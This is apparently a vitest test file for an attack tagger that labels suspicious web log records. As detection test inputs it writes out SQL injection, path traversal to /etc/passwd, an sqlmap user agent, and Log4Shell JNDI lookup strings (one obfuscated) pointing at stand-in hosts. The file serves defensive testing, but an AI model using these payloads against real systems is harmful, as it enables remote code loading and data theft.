import { describe, expect, it } from 'vitest';
import { AttackTagger } from '../../src/features/attack-tagger.js';
import { attackTags } from '../../src/features/attack-tags.js';
import type { LogRecord } from '../../src/types.js';

const base: LogRecord = {
  file: 'a.log', line: 1, timeMs: 0, clientIp: '1.2.3.4', method: 'GET', path: '/index.php', query: '',
  protocol: 'HTTP/1.1', status: 200, bytes: 10, durationMs: null, userAgent: 'Mozilla/5.0', referer: '',
  cookie: '', host: '', user: '', extras: null,
};

describe('AttackTagger', () => {
  it('gives the same tags as attackTags, for repeated and new requests', () => {
    const tagger = new AttackTagger();
    const records: LogRecord[] = [
      base,
      { ...base, query: "id=1'%20OR%20'1'='1" },
      { ...base, query: "id=1'%20OR%20'1'='1", line: 2 },
      { ...base, userAgent: 'sqlmap/1.7' },
      { ...base, path: '/../../etc/passwd' },
    ];
    for (const record of records) expect(tagger.tag(record)).toEqual(attackTags(record));
  });

  it('never serves a cached answer to a record whose referer or cookie carries a lookup', () => {
    const tagger = new AttackTagger();
    expect(tagger.tag(base)).toEqual([]);
    const planted = { ...base, referer: '${jndi:ldap://evil/a}' };
    expect(tagger.tag(planted)).toContain('log4shell');
    expect(tagger.tag({ ...base, cookie: 'x=${${lower:j}ndi:dns://e/a}' })).toContain('log4shell');
  });
});
